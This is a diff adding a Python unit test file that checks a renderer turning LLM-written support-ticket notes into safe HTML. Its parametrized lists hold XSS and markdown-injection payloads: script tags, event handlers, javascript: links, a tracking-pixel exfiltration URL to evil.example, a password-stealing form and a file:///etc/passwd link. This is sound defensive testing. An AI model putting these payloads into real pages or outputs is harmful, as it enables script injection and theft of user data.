@@ -1,0 +1,225 @@
+"""The note's HTML: what is said in it, and what hostile text can't do to it."""
+
+from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from processors.deliver.fakes import FakeFeedbackLinks
+from processors.deliver.marker import note_key, shown
+from processors.deliver.ports import Ending
+from processors.deliver.rendering import MAX_NOTE_BYTES, NoteRenderer, cleaned, markdown_to_html
+from schemas.events import Citation, EnhancementSynthesized, Writer
+from tests.unit.processors.deliver.conftest import START, synthesized
+
+RENDERER = NoteRenderer(FakeFeedbackLinks())
+TAGS = (
+    {"a", "b", "strong", "em", "small", "code", "pre", "br", "hr", "p", "blockquote", "ul", "ol", "li"}
+    | {"h3", "h4", "h5", "h6"}
+    | {"table", "thead", "tbody", "tr", "th", "td"}
+)
+MARKER = note_key(synthesized()).marker
+ALLOWED = frozenset({"https://a.example"})
+
+
+class Elements(HTMLParser):
+    """Every tag with its attributes, and the text, as a browser would see them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str, str | None]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    @property
+    def links(self) -> list[str | None]:
+        return [value for tag, name, value in self.attributes if (tag, name) == ("a", "href")]
+
+
+def rendered(event: EnhancementSynthesized, earlier: Ending | None = None) -> Elements:
+    return Elements(RENDERER.render(event, MARKER, earlier).html)
+
+
+def of(text: str) -> Elements:
+    return rendered(synthesized(text=text, citations=()))
+
+
+def test_a_note_names_its_writer_shows_the_text_the_sources_and_where_to_answer() -> None:
+    event = synthesized()
+    note = rendered(event)
+    assert "written by the language model gpt-4-turbo" in note.text
+    assert "ticketstream" in note.text.split("\n")[0]
+    assert "Likely cause" in note.text
+    assert note.tags.count("li") == 3
+    assert "[1] Spooler stops (docs)" in note.text
+    assert note.links == ["https://docs.example.com/kb/7", f"https://ticketstream.example/f/{event.enhancement_id}"]
+    assert shown(MARKER) in note.text
+
+
+def test_the_built_in_writer_and_a_degraded_text_are_named_plainly() -> None:
+    note = rendered(synthesized(writer=Writer.BUILTIN, model=None, degraded="the model was away for 60 s"))
+    assert "the built-in writer, without a language model" in note.text
+    assert "Less than usual: the model was away for 60 s" in note.text
+    assert "Less than usual" not in rendered(synthesized()).text
+
+
+def test_a_later_note_says_which_it_replaces() -> None:
+    assert "replaces our note of 2026-11-20 09:00 UTC" in rendered(synthesized(), Ending("x", START, note_id="7")).text
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<iframe src=https://evil.example></iframe>",
+        "<a href=https://evil.example>x</a>",
+        "<!-- comment --><style>*{display:none}</style>",
+        "<form action=https://evil.example><input name=password></form>",
+        "<div style='position:fixed;inset:0'>x</div>",
+        "</p></div></body><script src=//evil.example></script>",
+        "![pixel](https://evil.example/p.png?d=secret)",
+        "![a][b]\n\n[b]: https://evil.example/p.png",
+        "[click](javascript:alert(1))",
+        "[click](JaVaScRiPt:alert(1))",
+        "[click](java\nscript:alert(1))",
+        "[click](data:text/html;base64,PHNjcmlwdD4=)",
+        "[click](vbscript:x)",
+        "[click](//evil.example)",
+        "[click](https://evil.example)",
+        "[click](https://docs.example.com@evil.example/kb/7)",
+        '[click](https://docs.example.com/kb/7 "title\' onmouseover=alert(1)")',
+        "<https://evil.example>",
+        "[a]: https://evil.example\n\n[a]",
+        "[![x](https://evil.example/i.png)](https://evil.example)",
+        '[x](https://evil.example "\'><script>alert(1)</script>")',
+        "```html\n<script>alert(1)</script>\n```",
+        '```"><script>alert(1)</script>\ncode\n```',
+        "`<img src=x>`",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "| a | b |\n|---|---|\n| <img src=x onerror=y> | [x](javascript:1) |",
+        "<math><mtext></p><img src=x onerror=alert(1)>",
+        "\x00<script>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</script>",
+    ],
+)
+def test_hostile_text_becomes_plain_text(hostile: str) -> None:
+    event = synthesized(text=f"before\n\n{hostile}\n\nafter")
+    note = rendered(event)
+    assert set(note.tags) <= TAGS
+    own = {"https://docs.example.com/kb/7", f"https://ticketstream.example/f/{event.enhancement_id}"}
+    assert set(note.links) <= own
+    assert {(tag, name) for tag, name, _ in note.attributes} <= {("a", "href"), ("a", "rel")}
+    assert "before" in note.text
+    assert "after" in note.text
+    assert shown(MARKER) in note.text
+
+
+@pytest.mark.parametrize(
+    "field",
+    ["model", "degraded"],
+)
+def test_hostile_names_become_plain_text(field: str) -> None:
+    note = rendered(synthesized(**{field: "<img src=x onerror=alert(1)>"}))
+    assert "img" not in note.tags
+    assert "<img src=x" in note.text
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "file:///etc/passwd",
+        "https://",
+        "https://[",
+        'https://x.example/"onclick="y',
+        "https://x.example/\nx",
+    ],
+)
+def test_a_citation_with_a_strange_link_is_only_named(link: str) -> None:
+    note = rendered(synthesized(citations=(Citation(1, "docs", "kb", "<b>Title</b>", link),)))
+    assert "[1] <b>Title</b> (docs)" in note.text
+    assert note.links == [f"https://ticketstream.example/f/{synthesized().enhancement_id}"]
+
+
+def test_reading_markdown_alone_leaves_no_strange_link_and_no_picture() -> None:
+    html = markdown_to_html(
+        "[x](https://evil.example) ![y](https://evil.example/i.png) [z](https://a.example)", ALLOWED
+    )
+    note = Elements(html)
+    assert (note.links, note.tags) == (["https://a.example"], ["p", "a"])
+
+
+def test_cleaning_alone_leaves_no_strange_link_and_no_picture() -> None:
+    hostile = (
+        "<a href='https://evil.example' onclick=x>x</a><img src=y><a href=https://a.example>z</a><script>1</script>"
+    )
+    note = Elements(cleaned(hostile, ALLOWED))
+    assert (note.links, note.tags) == (["https://a.example"], ["a", "a"])
+
+
+def test_a_cited_link_in_the_text_stays_a_link() -> None:
+    note = rendered(synthesized(text="See [the article](https://docs.example.com/kb/7)."))
+    assert note.links.count("https://docs.example.com/kb/7") == 2
+
+
+def test_a_picture_leaves_its_description_and_a_strange_link_its_words() -> None:
+    note = of("![diagram](https://evil.example/x.png) and [the words](https://evil.example)")
+    assert "diagram and the words" in note.text
+
+
+def test_another_notes_marker_in_the_text_is_not_taken_for_that_note() -> None:
+    other = "b" * 24
+    note = RENDERER.render(synthesized(text=f"Earlier note: ticketstream:{other} TicketStream:{other}"), MARKER, None)
+    assert re.search(f"ticketstream:{other}", note.html, re.IGNORECASE) is None
+    assert note.html.count(shown(MARKER)) == 1
+
+
+def test_headings_begin_below_the_desks_own() -> None:
+    assert [tag for tag in of("# one\n\n## two\n\n### three").tags if tag.startswith("h") and tag != "hr"] == [
+        "h3",
+        "h4",
+        "h5",
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "word " * 50_000,
+        "<&\"'" * 50_000,
+        "> " * 20_000 + "x",
+        "[" * 50_000,
+        "![" * 20_000,
+        "*a **a " * 20_000,
+        "`" * 50_000,
+        "- " * 20_000,
+        "| a " * 10_000 + "|\n" + "|---" * 10_000 + "|",
+        "ticketstream:" * 10_000,
+    ],
+)
+def test_a_note_stays_small_and_quick_and_keeps_its_marker(text: str) -> None:
+    started = time.perf_counter()
+    note = RENDERER.render(synthesized(text=text), MARKER, None)
+    assert time.perf_counter() - started < 5
+    assert len(note.html.encode()) <= MAX_NOTE_BYTES
+    assert shown(MARKER) in note.html
+
+
+def test_a_text_that_was_cut_says_so() -> None:
+    assert "cut here because of its length" in of("word " * 50_000).text
+    assert "cut here" not in of("word").text
